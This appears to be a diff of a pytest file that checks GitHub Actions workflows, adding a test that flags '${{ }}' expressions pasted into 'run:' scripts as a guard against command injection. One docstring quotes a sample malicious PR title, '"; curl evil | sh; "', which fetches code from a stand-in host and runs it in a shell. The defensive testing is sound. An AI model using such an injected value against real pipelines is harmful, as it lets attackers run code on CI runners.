@@ -84,5 +84,33 @@ def test_nightly_publishes_pages_with_minimal_permissions():
 def test_bisect_inputs():
     inputs = triggers(load("bisect.yml"))["workflow_dispatch"]["inputs"]
     assert {"good", "bad", "variant", "shape", "threshold"} <= set(inputs)
-    assert inputs["threshold"]["default"] == "5%"
+    assert inputs["threshold"]["default"] == ""  # empty: the per-device-kind default applies
     assert not inputs["shape"].get("required", False)
+
+
+
+def _interpolated_scripts(folder: Path) -> list[str]:
+    """Steps whose `run:` script contains a `${{ … }}` expression."""
+    yaml = pytest.importorskip("yaml", reason="PyYAML is not installed")
+    found = []
+    for path in sorted(folder.glob("*.yml")):
+        workflow = yaml.safe_load(path.read_text())
+        for job_name, job in workflow["jobs"].items():
+            for step in job.get("steps", []):
+                if "${{" in step.get("run", ""):
+                    found.append(f"{path.name}: {job_name}: {step.get('name', step['run'][:40])}")
+    return found
+
+
+def test_no_workflow_interpolates_context_into_a_script():
+    """`${{ github.event.pull_request.title }}` inside `run:` is pasted into the shell script
+    before it runs: a PR title like `"; curl evil | sh; "` becomes code. Every value reaches a
+    script through `env:` and is quoted there."""
+    assert _interpolated_scripts(WORKFLOWS) == []
+
+
+def test_the_script_check_finds_an_interpolated_title(tmp_path):
+    (tmp_path / "bad.yml").write_text(
+        "on: pull_request\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - name: greet\n        run: echo \"${{ github.event.pull_request.title }}\"\n")
+    assert _interpolated_scripts(tmp_path) == ["bad.yml: x: greet"]
